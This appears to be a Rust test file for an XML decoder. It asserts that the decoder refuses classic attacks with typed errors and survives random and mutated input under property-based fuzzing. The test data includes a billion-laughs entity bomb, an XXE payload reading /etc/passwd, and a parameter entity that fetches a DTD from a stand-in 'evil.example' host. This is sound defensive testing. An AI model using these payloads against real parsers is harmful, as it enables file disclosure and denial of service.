//! Hostile input: classic XML attacks get typed errors, and random or
//! mutated bytes never panic (a bounded property fuzz; the open-ended one
//! is `fuzz/fuzz_targets/xml_decode.rs`).

use crate::xml_common;

use std::sync::OnceLock;

use imps_wire::{Element, Limits, Version, WireError, examples, xml};
use proptest::prelude::*;
use xml_common::unlimited;

fn decode(bytes: &[u8]) -> Result<Element, WireError> {
    xml::decode(bytes, &Limits::default())
}

#[test]
fn billion_laughs_is_refused_at_the_doctype() {
    let mut doc =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        doc.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    doc.push_str("]>\n<lolz>&lol9;</lolz>");
    assert_eq!(decode(doc.as_bytes()), Err(WireError::Doctype));
}

#[test]
fn external_entities_are_refused() {
    let xxe = "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\
               <foo>&xxe;</foo>";
    assert_eq!(decode(xxe.as_bytes()), Err(WireError::Doctype));
    let param = "<!DOCTYPE foo [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><foo/>";
    assert_eq!(decode(param.as_bytes()), Err(WireError::Doctype));
    // Without a DOCTYPE the reference is simply undefined.
    assert!(matches!(
        decode(b"<foo>&xxe;</foo>"),
        Err(WireError::Xml(_))
    ));
}

fn nested(depth: usize) -> Vec<u8> {
    let mut doc = Vec::with_capacity(depth * 7);
    for _ in 0..depth {
        doc.extend_from_slice(b"<a>");
    }
    for _ in 0..depth {
        doc.extend_from_slice(b"</a>");
    }
    doc
}

#[test]
fn deep_nesting_is_too_deep() {
    assert_eq!(
        decode(&nested(10_000)),
        Err(WireError::TooDeep { limit: 32 })
    );
    // Unclosed nesting fails the same way, before the input runs out.
    let open = b"<a>".repeat(10_000);
    assert_eq!(decode(&open), Err(WireError::TooDeep { limit: 32 }));
}

/// With the depth limit lifted the builder still copes: it keeps open
/// elements on the heap, not the call stack. (Run on a thread with a small
/// stack to make that a real test.)
#[test]
fn deep_nesting_does_not_use_the_call_stack() {
    let worker = std::thread::Builder::new()
        .stack_size(256 * 1024)
        .spawn(|| {
            let root = xml::decode(&nested(10_000), &unlimited());
            let mut e = match root {
                Ok(e) => e,
                Err(err) => panic!("{err}"),
            };
            let out = xml::encode(&e);
            assert_eq!(out, nested_empty_leaf(10_000));
            // Taken apart by hand: the derived Drop would recurse.
            let mut depth = 1;
            while let Some(child) = e.children.pop() {
                e = child;
                depth += 1;
            }
            depth
        });
    let depth = worker.map(|h| h.join());
    assert!(matches!(depth, Ok(Ok(10_000))), "{depth:?}");
}

/// The encoder writes the innermost `<a></a>` as `<a/>`.
fn nested_empty_leaf(depth: usize) -> Vec<u8> {
    let mut doc = b"<a>".repeat(depth - 1);
    doc.extend_from_slice(b"<a/>");
    doc.extend_from_slice(&b"</a>".repeat(depth - 1));
    doc
}

#[test]
fn oversize_is_refused_before_parsing() {
    let limits = Limits::default();
    let doc = vec![b'<'; limits.max_size + 1];
    assert_eq!(
        xml::decode(&doc, &limits),
        Err(WireError::TooLarge {
            size: limits.max_size + 1,
            limit: limits.max_size
        })
    );
}

#[test]
fn element_count_bomb_is_refused() {
    let mut doc = b"<r>".to_vec();
    doc.extend_from_slice(&b"<a/>".repeat(200_000));
    doc.extend_from_slice(b"</r>");
    assert_eq!(
        decode(&doc),
        Err(WireError::TooManyElements { limit: 100_000 })
    );
}

#[test]
fn huge_text_is_refused() {
    let limits = Limits::default();
    let mut doc = b"<a>".to_vec();
    doc.extend(std::iter::repeat_n(b'x', limits.max_text + 1));
    doc.extend_from_slice(b"</a>");
    assert_eq!(
        decode(&doc),
        Err(WireError::TextTooLong {
            limit: limits.max_text
        })
    );
}

/// Valid documents to mutate: the examples of every version.
fn corpus() -> &'static [Vec<u8>] {
    static CORPUS: OnceLock<Vec<Vec<u8>>> = OnceLock::new();
    CORPUS.get_or_init(|| {
        Version::ALL
            .into_iter()
            .flat_map(examples::all)
            .map(|(_, m)| xml::encode(&m.to_element()))
            .collect()
    })
}

/// Whatever decodes must re-encode to a fixpoint: encode(decode(encode(t)))
/// equals encode(t). This catches escaping the decoder cannot read back.
fn check_stable(bytes: &[u8]) -> Result<(), TestCaseError> {
    if let Ok(tree) = decode(bytes) {
        let once = xml::encode(&tree);
        let again = xml::decode(&once, &unlimited()).map_err(|e| {
            TestCaseError::fail(format!(
                "re-decode: {e}: {}",
                String::from_utf8_lossy(&once)
            ))
        })?;
        prop_assert_eq!(xml::encode(&again), once);
    }
    Ok(())
}

#[derive(Debug, Clone)]
enum Mutation {
    Flip(usize, u8),
    Insert(usize, Vec<u8>),
    Delete(usize, usize),
    Truncate(usize),
}

fn mutation() -> impl Strategy<Value = Mutation> {
    let snippet = prop::sample::select(vec![
        b"<".to_vec(),
        b">".to_vec(),
        b"&".to_vec(),
        b"&amp;".to_vec(),
        b"&#x0;".to_vec(),
        b"<!DOCTYPE x>".to_vec(),
        b"<![CDATA[".to_vec(),
        b"]]>".to_vec(),
        b"<!--".to_vec(),
        b"-->".to_vec(),
        b"<?x?>".to_vec(),
        b"</a>".to_vec(),
        b"<a>".to_vec(),
        b"\"".to_vec(),
        b"\xff".to_vec(),
        b"\xc3".to_vec(),
        b"\0".to_vec(),
        b"\r".to_vec(),
        b"p:".to_vec(),
    ]);
    prop_oneof![
        (any::<usize>(), any::<u8>()).prop_map(|(i, b)| Mutation::Flip(i, b)),
        (
            any::<usize>(),
            prop_oneof![snippet, prop::collection::vec(any::<u8>(), 1..8)]
        )
            .prop_map(|(i, s)| Mutation::Insert(i, s)),
        (any::<usize>(), 1usize..16).prop_map(|(i, n)| Mutation::Delete(i, n)),
        any::<usize>().prop_map(Mutation::Truncate),
    ]
}

fn apply(doc: &mut Vec<u8>, m: &Mutation) {
    let len = doc.len().max(1);
    match m {
        Mutation::Flip(i, b) => {
            if let Some(x) = doc.get_mut(i % len) {
                *x ^= b | 1;
            }
        }
        Mutation::Insert(i, s) => {
            let at = i % (doc.len() + 1);
            doc.splice(at..at, s.iter().copied());
        }
        Mutation::Delete(i, n) => {
            let at = i % len;
            let end = (at + n).min(doc.len());
            if at < end {
                doc.drain(at..end);
            }
        }
        Mutation::Truncate(i) => doc.truncate(i % len),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    #[test]
    fn random_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..512)) {
        check_stable(&bytes)?;
    }

    /// Random tag soup gets further into the parser than random bytes.
    #[test]
    fn random_markup_never_panics(parts in prop::collection::vec(
        prop::sample::select(vec![
            "<a>", "</a>", "<b x='1'>", "</b>", "<c/>", "text", " ", "&lt;", "&#65;", "&bad;",
            "<!--c-->", "<?p?>", "<![CDATA[d]]>", "<p:q xmlns:p='u'>", "</p:q>", "\r\n", "<", ">",
            "&", "\"", "<?xml version='1.0'?>", "\u{FEFF}", "é",
        ]),
        0..40,
    )) {
        check_stable(parts.concat().as_bytes())?;
    }

    #[test]
    fn mutated_documents_never_panic(
        pick in any::<prop::sample::Index>(),
        mutations in prop::collection::vec(mutation(), 1..6),
    ) {
        let docs = corpus();
        let mut doc = docs[pick.index(docs.len())].clone();
        for m in &mutations {
            apply(&mut doc, m);
        }
        check_stable(&doc)?;
    }
}
